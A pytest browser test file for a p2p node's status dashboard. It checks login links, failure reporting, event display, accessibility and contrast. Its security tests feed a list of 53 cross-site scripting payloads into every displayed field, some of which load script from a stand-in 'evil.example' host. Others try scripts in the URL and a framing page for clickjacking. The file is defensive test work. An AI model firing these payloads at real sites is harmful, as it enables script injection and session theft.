"""The status page in a real browser, before a stand-in peer that says what it is told to."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import trio

from fogp2p.api import Context, Scope, page_routes, serve_context
from fogp2p.config import Config, Loaded
from fogp2p.environment import real_environment
from fogp2p.eventlog import EventLog
from fogp2p.node import NodeStatus, PeerStatus
from fogp2p.node.health import Reason
from fogp2p.node.status import DiscoveryStatus
from fogp2p.supervisor import State
from fogp2p.testing.api import StandInNode
from fogp2p.web import page_folder


class Hostile(StandInNode):
    """Every text that may come from elsewhere is one of `texts`."""

    texts: tuple[str, ...] = ()

    def status(self) -> NodeStatus:
        if not self.texts:
            return super().status()
        return replace(
            super().status(),
            addresses=self.texts,
            discovery=tuple(DiscoveryStatus(text, 1, text) for text in self.texts),
            reasons=tuple(Reason(text, text, text) for text in self.texts),
            why=self.texts[0],
        )

    def peers(self) -> tuple[PeerStatus, ...]:
        (peer,) = super().peers()
        return (
            peer,
            *(
                replace(
                    peer,
                    peer_id=text,
                    address=text,
                    direction=text,
                    agent=text,
                    software=text if index % 2 else "",
                    protocols={text: text},
                    not_agreed=text if index % 3 == 0 else "",
                    warnings=(text,),
                )
                for index, text in enumerate(self.texts)
            ),
        )


class Served:
    """The API with the page on real sockets."""

    def __init__(self, node: Hostile, context: Context) -> None:
        self.node = node
        self.context = context

    def link(self) -> str:
        """Logs a browser in, once."""
        context = self.context
        code = context.sessions.invite(context.secret(), Scope.READ, context.now())
        return f"{context.url}login?code={code}"


@asynccontextmanager
async def _served(tmp_path: Path) -> AsyncIterator[Served]:
    config = replace(Config(), api=replace(Config().api, tcp="127.0.0.1:0"))
    loaded = Loaded(config, dict.fromkeys(dict(config.items()), "default"))
    node = Hostile(real_environment())
    context = Context(node, loaded)
    path = tmp_path / "run" / "api.sock"
    pages = page_routes(page_folder())
    async with trio.open_nursery() as nursery:
        await nursery.start(partial(serve_context, context, path, pages=pages))
        yield Served(node, context)
        node.stop()


@pytest.fixture
async def served(tmp_path: Path) -> AsyncIterator[Served]:
    async with _served(tmp_path) as found:
        yield found


LIVE = 'document.body.dataset.state === "live"'


async def test_the_link_opens_one_browser_once(browser: Any, served: Served) -> None:
    link = served.link()
    async with browser.page() as page, browser.page(fast=True) as other:
        await page.open(link)
        await page.until(LIVE)
        assert await page.ask("location.pathname + location.search") == "/"
        assert "All is well. Connected to 1 peer." in await page.text("#summary")
        assert "127.0.0.1" in await page.text("#peers")
        assert await page.ask("document.cookie") == ""  # no script gets at it
        await page.is_clean()
        assert page.network == []
        await other.open(link)
        await other.until('document.body.dataset.state === "out"')
        assert "fogp2p dashboard" in await other.text("#logged-out")
        assert not await other.ask("document.querySelector('#main').checkVisibility()")
        await other.is_clean()
        # Who logs in elsewhere in this browser need not come back by hand.
        await other.ask(f"fetch({json.dumps(served.link())}).then(() => true)")
        await other.until(LIVE)


async def test_a_failure_its_reason_and_the_return_are_told(browser: Any, served: Served) -> None:
    node = served.node
    async with browser.page() as page:
        await page.open(served.link())
        await page.until(LIVE)
        down = replace(
            node.tree["host"], state=State.BACKING_OFF, why="the socket closed", retry_in_s=2.5
        )
        ready, node.tree["host"] = node.tree["host"], down
        told = {"name": "host", "from": "ready", "to": "backing-off", "reason": "the socket closed"}
        node.event_log.record("service.changed", {**told, "restarts": 0})
        node.event_log.record("health.changed", {"from": "ok", "to": "failing"})
        await page.until("document.querySelector('#now').className === 'bad'")
        assert "It does not work" in await page.text("#summary")
        assert "host backing-off: the socket closed" in await page.text("#reasons")
        assert "started again in 2.5 s" in await page.text("#reasons")
        assert "the socket closed (again in 2.5 s)" in await page.text("#services")
        assert "host → backing-off the socket closed" in await page.text("#events")
        assert (await page.ask("document.title")).startswith("failing - ")
        node.tree["host"] = replace(ready, restarts=1, last_failure="the socket closed")
        node.event_log.record("health.changed", {"from": "failing", "to": "ok"})
        await page.until("document.querySelector('#now').className === 'good'")
        assert "was: the socket closed" in await page.text("#services")
        await page.is_clean()
        assert page.network == []


async def test_events_come_once_in_bounded_number_and_gaps_are_said(
    browser: Any, served: Served
) -> None:
    node = served.node
    node.event_log = EventLog(node.environment.clock, kept=20)
    for number in range(1, 41):
        node.event_log.record("test.counted", {"number": number})
    numbers = "[...document.querySelectorAll('#events time')].map((e) => e.title.split(' ').pop())"
    async with browser.page() as page:
        await page.open(served.link())
        await page.until(f"{numbers}.length === 21")
        assert await page.ask(numbers) == [str(number) for number in range(40, 19, -1)]
        assert "gap events 1 to 20 are not kept any more" in " ".join(
            (await page.text("#events")).split()
        )
        for number in range(41, 101):
            node.event_log.record("test.counted", {"number": number})
            await trio.lowlevel.checkpoint()
        await page.until(f"{numbers}[0] === '100'")
        assert len(await page.ask(numbers)) == 50
        await page.is_clean()


RUN = "window.hit=1,alert(1)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x' onerror='{RUN}'/>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=9 y=9>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"javascript:{RUN}",
    "data:text/html,<script>alert(1)</script>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onmouseover={RUN}>x</div>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    "<form action=https://evil.example/><input name=a></form>",
    "<base href=https://evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"`;{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e",
)


def _marks() -> str:
    """The elements of the page, by name, and every attribute that could run something."""
    return """(() => {
      const all = [...document.querySelectorAll("*")];
      return [
        [...new Set(all.map((each) => each.localName))].sort(),
        all.flatMap((each) => each.getAttributeNames())
          .filter((name) => /^on|^style$|^srcdoc$|action$/.test(name)),
        document.scripts.length,
      ];
    })()"""


@pytest.mark.attack(88)
async def test_xss_texts_of_others_are_shown_as_text(browser: Any, served: Served) -> None:
    """53 payloads in every place where somebody else's text is shown, events among them."""
    async with browser.page(height=2000) as page:
        await page.open(served.link())
        await page.until(LIVE)
        elements, _, scripts = await page.ask(_marks())
        served.node.texts = PAYLOADS
        for name in ("host", "mdns"):
            served.node.tree[name] = replace(
                served.node.tree[name], why=PAYLOADS[0], last_failure=PAYLOADS[1]
            )
        for payload in PAYLOADS:
            served.node.tree[payload] = replace(
                served.node.tree["mdns"], name=payload, why=payload, state=State.FAILED
            )
        for some in (PAYLOADS[:25], PAYLOADS[25:50], PAYLOADS[50:]):
            for payload in some:
                known = {"peer_id": payload, "agent": payload}
                served.node.event_log.record("peer.identified", known)
                served.node.event_log.record(payload, {payload: payload})
            last = json.dumps(some[-1])
            await page.until(f"document.querySelector('#events').textContent.includes({last})")
            shown = await page.ask("document.querySelector('#events').textContent")
            for payload in some:
                assert shown.count(payload) >= 2, payload
        await page.until(f"document.querySelector('#peers').tBodies[0].rows.length > {50}")
        for place, times in (("#peers", 4), ("#services", 2), ("#discovery", 2), ("#reasons", 3)):
            shown = await page.ask(f"document.querySelector('{place}').textContent")
            for payload in PAYLOADS:
                assert shown.count(payload) >= times, (place, payload)
        now, running, same = await page.ask(_marks())
        assert set(now) - set(elements) <= {"li", "b", "span", "time"}
        assert running == [] and same == scripts == 1
        await page.ask(
            "document.querySelectorAll('*').forEach((each) => each.dispatchEvent("
            "new MouseEvent('mouseover', {bubbles: true})))"
        )
        assert await page.ask("window.hit") is None
        assert all(
            url.startswith(served.context.url) for url in page.requests if "ws://" not in url
        )
        await page.is_clean()
        assert page.network == []


@pytest.mark.attack(88)
async def test_xss_addresses_of_the_page_are_not_looked_at(browser: Any, served: Served) -> None:
    async with browser.page() as page:
        await page.open(served.link())
        await page.until(LIVE)
        for tail in (f"?x=<script>{RUN}</script>", f"#<img src=x onerror={RUN}>", "?since=-1#x"):
            await page.open("about:blank")
            await page.open(served.context.url + tail)
            await page.until(LIVE)
            assert "onerror" not in await page.ask("document.documentElement.innerHTML")
            assert await page.ask("window.hit") is None
        await page.is_clean()


@pytest.mark.attack(88)
async def test_no_other_page_can_frame_it(browser: Any, served: Served) -> None:
    """So nobody clicks on something that they do not see."""
    url = served.context.url
    body = f"<iframe src='{url}'></iframe><iframe src='{url}static/index.html'></iframe>"
    answer = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n\r\n"

    async def evil(stream: trio.SocketStream) -> None:
        async with stream:
            if await stream.receive_some(65536):  # a browser also opens one to have it at hand
                await stream.send_all((answer + body).encode())

    async with browser.page() as page, trio.open_nursery() as nursery:
        (listener,) = await nursery.start(partial(trio.serve_tcp, evil, 0, host="127.0.0.1"))
        await page.open(served.link())
        await page.until(LIVE)
        await page.open(f"http://127.0.0.1:{listener.socket.getsockname()[1]}/")
        await page.until(
            "document.readyState === 'complete' && document.querySelector('iframe') !== null"
        )
        tree = await page.call("Page.getFrameTree")
        frames = [each["frame"] for each in tree["frameTree"]["childFrames"]]
        assert len(frames) == 2
        for frame in frames:
            assert frame["url"].startswith("chrome-error:") and frame["unreachableUrl"]
        nursery.cancel_scope.cancel()


@pytest.mark.parametrize("width", [1280, 760, 360])
@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_it_fits_and_is_legible(
    browser: Any, served: Served, width: int, scheme: str
) -> None:
    """Nothing sticks out sideways, and every text stands out from its ground (WCAG AA: 4.5)."""
    served.node.texts = ("a word", "w" * 300, "many words " * 40)
    served.node.event_log.record("peer.connected", {"peer_id": "x" * 60, "address": "y" * 500})
    async with browser.page(width=width, scheme=scheme) as page:
        await page.open(served.link())
        await page.until(LIVE)
        assert await page.ask("document.documentElement.scrollWidth") <= width
        contrasts = await page.ask(_CONTRASTS)
        assert len(contrasts) > 30
        assert min(contrasts) >= 4.5
        await page.is_clean()


_CONTRASTS = """(() => {
  const parts = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const light = (colour) => {
    const [r, g, b] = parts(colour).map((part) => part / 255)
      .map((part) => part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (each) => {
    const colour = getComputedStyle(each).backgroundColor;
    return parts(colour)[3] === 0 ? ground(each.parentElement) : colour;
  };
  return [...document.querySelectorAll("body *")]
    .filter((each) => each.checkVisibility() && [...each.childNodes].some(
      (child) => child.nodeType === 3 && child.data.trim()))
    .map((each) => {
      const [a, b] = [light(getComputedStyle(each).color), light(ground(each))];
      return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    });
})()"""


async def test_a_screen_reader_hears_what_it_is(browser: Any, served: Served) -> None:
    """Names of tables and sections, columns, and what is said by itself when it changes."""
    async with browser.page(width=360) as page:
        await page.open(served.link())
        await page.until(LIVE)
        await page.call("Accessibility.enable")
        nodes = (await page.call("Accessibility.getFullAXTree"))["nodes"]
        named = {(node["role"]["value"], node.get("name", {}).get("value", "")) for node in nodes}
        assert {("table", "Peers"), ("table", "Parts of this peer")} <= named
        assert {("region", "Now"), ("region", "Peers"), ("region", "What happened")} <= named
        assert {("columnheader", "state"), ("columnheader", "software")} <= named
        assert await page.ask("[...document.querySelectorAll('[role=status]')].map(e => e.id)") == [
            "live",
            "summary",
        ]
